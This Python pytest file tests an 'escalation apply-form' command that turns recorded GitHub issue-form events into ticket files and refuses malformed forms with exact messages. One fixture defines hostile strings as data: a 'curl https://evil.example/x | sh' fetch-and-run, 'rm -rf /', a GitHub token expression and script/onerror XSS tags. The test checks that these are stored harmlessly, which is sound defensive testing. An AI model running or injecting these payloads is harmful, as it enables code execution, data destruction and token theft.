"""``escalation apply-form`` on recorded GitHub ``issues`` events (tests/fixtures/issue-events/).

The oracle of every valid form is the command line itself: the same project copied twice,
the form applied to one copy and ``escalation engage`` / ``respond`` run with the same
values (written out here by hand) on the other; the two trees must be byte-identical.
Every refused form must print its exact message and leave the whole tree as it was.
"""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
import yaml

if TYPE_CHECKING:
    from conftest import CLI

EVENTS = Path(__file__).resolve().parents[1] / "fixtures" / "issue-events"
ENGAGE_SECTIONS = ("'Ticket', 'Admin', 'Tier', 'Tag', 'Reason', 'Message', 'Engaged at'")
SCRIPT_REASON = ("<script>alert(1)</script> ${{ github.token }} `id` $(curl -s"
                 " https://evil.example/x | sh) ' \" \\ #x")
SCRIPT_MESSAGE = "```\n$(rm -rf /)\n```\n<img src=x onerror=alert(2)>"

# Each valid event and the command line that must write the same file. An empty time
# field means when the issue was opened: 16:15:42Z is 10:15 in Chicago in November.
VALID = {
    "engage-collaborate": ("engage", "48213", "--admin", "marisol-tran", "--tier",
                           "collaborate", "--reason", "Which group grants access? #expenses",
                           "--at", "2026-11-16T10:15"),
    "edited-collaborate": ("engage", "48213", "--admin", "marisol-tran", "--tier",
                           "collaborate", "--reason", "Which group grants access? #expenses",
                           "--at", "2026-11-16T10:15"),
    "engage-escalate": ("engage", "48213", "--admin", "marisol-tran", "--tier", "escalate",
                        "--tag", "esc-sso", "--reason",
                        "The assignment group is missing from the app.", "--message",
                        "What process can SC follow next time?", "--at", "2026-11-16T11:05"),
    "respond-answered": ("respond", "48214", "--admin", "kwame-lindqvist", "--outcome",
                         "answered", "--process",
                         "SC raises the quota to the plan's figure in the mail console.",
                         "--at", "2026-11-16T13:40"),
    "respond-redirected": ("respond", "48214", "--admin", "kwame-lindqvist", "--outcome",
                           "redirected", "--redirect-to", "ruth-adebayo",
                           "--at", "2026-11-17T09:02"),
    # opened at 07:30Z on 2026-11-01: the second 01:30 in Chicago, written with its offset
    "engage-at-fall-back": ("engage", "48201", "--admin", "marisol-tran", "--tier",
                            "collaborate", "--reason", "Sign-ins fail since 01:00.",
                            "--at", "2026-11-01T01:30-06:00"),
    "script-payload": ("engage", "48213", "--admin", "marisol-tran", "--tier", "collaborate",
                       "--reason", SCRIPT_REASON, "--message", SCRIPT_MESSAGE,
                       "--at", "2026-11-16T10:15"),
}
CHANGED = {"engage-at-fall-back": "tickets/2026/48201.md", "engage": "tickets/2026/48213.md",
           "respond": "tickets/2026/48214.md"}

# Each refused event, the issue number, and the message printed after "escalation apply-form: ".
REFUSED = {
    "unknown-admin": "issue #31: field 'Admin' 'marisol-tarn': expected the slug of an admin"
    " in admins/ (did you mean 'marisol-tran'?)",
    "bad-tier": "issue #32: field 'Tier' 'escalated': expected one of collaborate, escalate"
    " (did you mean 'escalate'?)",
    "escalate-incomplete": "issue #33: cannot escalate ticket 48215:\n"
    "missing field 'Message': escalating needs a tag, a reason and the meta-protocol message\n"
    "the pre-escalation checklist is incomplete; these items are not ticked under"
    " 'checklist:' in tickets/2026/48215.md:\n"
    "  - troubleshooting-done: Standard troubleshooting completed and recorded on the ticket\n"
    "  - evidence-attached: Evidence attached: error messages, screenshots, times, affected"
    " users\n"
    "  - outside-sc-scope: Confirmed that the fix is outside SC scope or access\n"
    "tick them once done, or engage with field 'Tier' collaborate",
    "bad-time": "issue #34: field 'Engaged at' 'yesterday afternoon': expected a date and time"
    " such as 2026-11-16T09:30",
    "before-opened": "issue #35: the engagement escalations[0] would not pass 'escalation"
    " check'; nothing was written:\n"
    "  tickets/2026/48213.md:20: error: field 'escalations[0].at': expected a time not before"
    " opened (2026-11-16 09:30) but received 2026-11-16 08:00"
    " [ticket.engagement-before-opened]",
    "bad-outcome": "issue #36: field 'Outcome' 'resolved': expected one of accepted, answered,"
    " redirected, declined",
    "redirect-without-target": "issue #37: field 'Outcome' redirected needs field 'Redirect"
    " to': the admin the ticket was sent on to",
    "redirect-on-answer": "issue #38: field 'Redirect to' is only for field 'Outcome'"
    " redirected",
    "no-open-engagement": "issue #39: ticket 48214 has no engagement of 'ruth-adebayo';"
    " engage them first with 'escalation engage'",
    "response-before-engagement": "issue #40: the response to escalations[0] would not pass"
    " 'escalation check'; nothing was written:\n"
    "  tickets/2026/48214.md:22: error: field 'escalations[0].response.at': expected a time"
    " not before the engagement (2026-11-16 10:00) but received 2026-11-16 09:30"
    " [ticket.response-before-engagement]",
    "unknown-ticket": "issue #41: no ticket '99999': expected a file tickets/<year>/99999.md"
    " (create it with 'escalation new ticket')",
    "nonsense": "issue #42: line 1: text before the first section\n"
    "issue #42: line 11: section '### Admin' appears a second time; each field has one"
    " section\n"
    "issue #42: line 15: section '### Priority' is not a field of the engage form\n"
    "issue #42: the sections '### Tier', '### Tag', '### Message', '### Engaged at' are"
    " missing\n"
    "issue #42: expected the engage form as GitHub writes it: a '### Label' line, then the"
    f" answer, for each of {ENGAGE_SECTIONS}",
    "empty-body": "issue #43: the body is empty\n"
    "issue #43: expected the engage form as GitHub writes it: a '### Label' line, then the"
    f" answer, for each of {ENGAGE_SECTIONS}",
    "empty-ticket": "issue #44: field 'Ticket' is empty; the engage form needs it",
    "two-line-ticket": "issue #45: field 'Ticket' holds several lines; expected one line",
    "both-labels": "issue #47 carries the labels engage-form and respond-form: one form per"
    " issue; remove the label of the form it is not",
}


def tree(root: Path) -> dict[str, bytes]:
    """Every file under ``root`` and its bytes."""
    return {p.relative_to(root).as_posix(): p.read_bytes()
            for p in sorted(root.rglob("*")) if p.is_file()}


@pytest.fixture
def copies(tmp_path: Path) -> tuple[Path, Path]:
    """Two copies of the fixture project: one for the form, one for the command line."""
    return (shutil.copytree(EVENTS / "project", tmp_path / "form"),
            shutil.copytree(EVENTS / "project", tmp_path / "cli"))


def apply_form(cli: CLI, root: Path, event: str, *extra: str) -> tuple[int, str, str]:
    result = cli("apply-form", "-f", str(root / "mkdocs.yml"), str(EVENTS / f"{event}.json"),
                 *extra)
    return result.code, result.out, result.err


@pytest.mark.parametrize("event", sorted(VALID))
def test_a_valid_form_writes_the_file_the_command_line_writes(
    event: str, cli: CLI, copies: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("ESCALATION_AS_OF", raising=False)
    form_root, cli_root = copies
    before = tree(form_root)
    command, *args = VALID[event]
    changed = CHANGED.get(event, CHANGED[command])
    code, out, _ = apply_form(cli, form_root, event)
    assert (code, out) == (0, f"{changed}\n")
    by_hand = cli(command, "-f", str(cli_root / "mkdocs.yml"), *args)
    assert (by_hand.code, by_hand.out) == (0, out)
    after = tree(form_root)
    assert after == tree(cli_root)
    assert {p for p in after if after[p] != before.get(p)} == {changed}


def test_a_script_payload_lands_as_data(cli: CLI, copies: tuple[Path, Path]) -> None:
    root = copies[0]
    assert apply_form(cli, root, "script-payload")[0] == 0
    text = (root / CHANGED["engage"]).read_text(encoding="utf-8")
    front = yaml.safe_load(text.split("---\n")[1])
    payload = json.loads((EVENTS / "script-payload.json").read_text(encoding="utf-8"))
    assert "<script>alert(1)</script>" in payload["issue"]["body"]
    assert front["escalations"][0]["reason"] == SCRIPT_REASON
    assert front["escalations"][0]["message"] == SCRIPT_MESSAGE
    assert cli("check", "-f", str(root / "mkdocs.yml")).code == 0


@pytest.mark.parametrize("event", sorted(REFUSED))
def test_a_refused_form_says_why_and_changes_nothing(
    event: str, cli: CLI, copies: tuple[Path, Path], tmp_path: Path
) -> None:
    root = copies[0]
    before = tree(root)
    comment = tmp_path / "comment.md"
    code, out, err = apply_form(cli, root, event, "--comment", str(comment))
    message = REFUSED[event]
    assert (code, out, err) == (1, "", f"escalation apply-form: {message}\n")
    assert tree(root) == before
    fence = "````" if "```" in message else "```"
    assert comment.read_text(encoding="utf-8").endswith(f"\n\n{fence}text\n{message}\n{fence}\n")


def test_a_form_for_the_other_command_is_refused(cli: CLI, copies: tuple[Path, Path]) -> None:
    """A respond body under the engage label: the engage form's sections are missing."""
    root = copies[0]
    before = tree(root)
    code, _, err = apply_form(cli, root, "respond-body-engage-label")
    assert code == 1
    assert ("issue #46: line 9: section '### Outcome' is not a field of the engage form"
            in err.splitlines()[0])
    assert tree(root) == before


def test_an_issue_without_a_form_label_is_a_usage_error(
    cli: CLI, copies: tuple[Path, Path], tmp_path: Path
) -> None:
    root = copies[0]
    before = tree(root)
    comment = tmp_path / "comment.md"
    code, out, err = apply_form(cli, root, "not-a-form", "--comment", str(comment))
    assert (code, out) == (2, "")
    assert err.endswith("escalation apply-form: error: issue #48 has no label engage-form or"
                        " respond-form: it is not an engage or respond form\n")
    assert tree(root) == before
    assert not comment.exists()


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"{not json", "not a JSON event payload"),
        (b'{"action": "opened"}', "expected a GitHub 'issues' event payload with 'issue'"),
        (b'{"issue": {"number": "7", "labels": [], "created_at": "2026-11-16T16:15:42Z"}}',
         "expected a GitHub 'issues' event payload with 'number'"),
        (b'{"issue": {"number": 7, "labels": [], "created_at": "2026-11-16T16:15"}}',
         "is not an ISO 8601 time with an offset"),
        (b'{"issue": {"number": 7, "labels": ["engage-form"], "created_at": "x"}}',
         "issue 'labels' must be a list of objects with a 'name'"),
    ],
)
def test_a_file_that_is_no_issues_event_is_a_usage_error(
    content: bytes, expected: str, cli: CLI, copies: tuple[Path, Path], tmp_path: Path
) -> None:
    root = copies[0]
    before = tree(root)
    event = tmp_path / "event.json"
    event.write_bytes(content)
    result = cli("apply-form", "-f", str(root / "mkdocs.yml"), str(event))
    assert result.code == 2
    assert result.err.startswith("escalation apply-form: error: ")
    assert expected in result.err
    assert tree(root) == before


def test_the_comment_file_is_never_overwritten(
    cli: CLI, copies: tuple[Path, Path], tmp_path: Path
) -> None:
    comment = tmp_path / "comment.md"
    comment.write_text("someone else's\n", encoding="utf-8")
    code, _, err = apply_form(cli, copies[0], "bad-tier", "--comment", str(comment))
    assert code == 2
    assert err.endswith(f"error: --comment {comment}: the file exists; name a new file\n")
    assert comment.read_text(encoding="utf-8") == "someone else's\n"


def test_a_refusal_fences_the_message_longer_than_its_backticks(
    cli: CLI, copies: tuple[Path, Path], tmp_path: Path
) -> None:
    """A value with a code fence cannot close the comment's code block early."""
    payload = json.loads((EVENTS / "script-payload.json").read_text(encoding="utf-8"))
    payload["issue"]["body"] = payload["issue"]["body"].replace(
        "### Admin\n\nmarisol-tran", "### Admin\n\n````@octo-team````")
    event = tmp_path / "event.json"
    event.write_text(json.dumps(payload), encoding="utf-8")
    comment = tmp_path / "comment.md"
    result = cli("apply-form", "-f", str(copies[0] / "mkdocs.yml"), str(event),
                 "--comment", str(comment))
    assert result.code == 1
    text = comment.read_text(encoding="utf-8")
    assert "\n`````text\nissue #25: field 'Admin' '````@octo-team````'" in text
    assert text.endswith("\n`````\n")


def test_the_fixture_events_are_the_issues_events_github_sends() -> None:
    """Every recorded payload has the keys of a GitHub ``issues`` event, trimmed."""
    for path in EVENTS.glob("*.json"):
        payload = json.loads(path.read_text(encoding="utf-8"))
        assert payload["action"] in ("opened", "edited"), path.name
        assert {"issue", "repository", "sender"} <= payload.keys(), path.name
        issue = payload["issue"]
        assert {"number", "title", "body", "labels", "user", "created_at", "state",
                "author_association"} <= issue.keys(), path.name
    assert os.listdir(EVENTS / "project")  # the project they are applied to
